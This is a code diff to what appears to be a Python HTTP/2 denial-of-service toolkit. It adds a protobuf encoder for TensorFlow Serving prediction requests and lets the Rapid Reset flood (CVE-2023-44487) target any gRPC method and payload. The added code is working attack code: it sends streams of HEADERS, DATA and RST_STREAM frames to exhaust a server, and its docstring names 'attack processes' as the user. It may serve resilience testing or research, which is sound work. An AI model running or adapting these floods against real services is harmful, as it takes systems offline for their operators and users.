@@ -15,6 +15,7 @@ from __future__ import annotations
 import functools
 import select
 import socket
+import struct
 import time
 import zlib
 from collections.abc import Callable
@@ -70,6 +71,33 @@ def request_block(encoder: hpack.Encoder, path: str = "/t.Test/echo", **extra: s
         *extra.items(),
     ]
     return bytes(encoder.encode(headers))
+
+
+PREDICT = "/tensorflow.serving.PredictionService/Predict"
+
+
+def predict_request(model: str, rows: list[list[float]]) -> bytes:
+    """A TF Serving PredictRequest of float input ``x`` (``rows``) for ``model``, in protobuf
+    wire format written out here, so that attack processes need no TensorFlow."""
+    dims = b"".join(_field(2, b"\x08" + _varint(size)) for size in (len(rows), len(rows[0])))
+    floats = struct.pack(f"<{len(rows) * len(rows[0])}f", *(v for row in rows for v in row))
+    tensor = b"\x08\x01" + _field(2, dims) + _field(5, floats)  # DT_FLOAT, shape, float_val
+    inputs = _field(2, _field(1, b"x") + _field(2, tensor))  # one entry of the inputs map
+    return _field(1, _field(1, model.encode())) + inputs  # model_spec.name, inputs
+
+
+def _varint(value: int) -> bytes:
+    out = bytearray()
+    while value > 0x7F:
+        out.append(value & 0x7F | 0x80)
+        value >>= 7
+    out.append(value)
+    return bytes(out)
+
+
+def _field(number: int, payload: bytes) -> bytes:
+    """A length-delimited protobuf field."""
+    return _varint(number << 3 | 2) + _varint(len(payload)) + payload
 
 
 def grpc_message(payload: bytes, compressed: bool = False) -> bytes:
@@ -189,13 +217,21 @@ def continuation_flood(host: str, port: int, duration: float, frames: int = 60_0
     return result
 
 
-def rapid_reset(host: str, port: int, duration: float, triples: int = 30_000) -> AttackResult:
-    """HEADERS + DATA(END_STREAM) + RST_STREAM on new stream after new stream (CVE-2023-44487)."""
+def rapid_reset(
+    host: str,
+    port: int,
+    duration: float,
+    triples: int = 30_000,
+    path: str = "/t.Test/echo",
+    message: bytes = b"x" * 16,
+) -> AttackResult:
+    """HEADERS + DATA(END_STREAM) + RST_STREAM on new stream after new stream (CVE-2023-44487),
+    each a complete call of ``path`` with ``message``."""
     conn = Conn(host, port)
     started = time.monotonic()
-    first = request_block(conn.encoder)
-    block = request_block(conn.encoder)  # now indexed: small and identical every time
-    body = grpc_message(b"x" * 16)
+    first = request_block(conn.encoder, path)
+    block = request_block(conn.encoder, path)  # now indexed: small and identical every time
+    body = grpc_message(message)
     conn.send(frame(HEADERS, END_HEADERS, 1, first) + frame(RST_STREAM, 0, 1, bytes(4)))
     sid = 3
     sent = 0
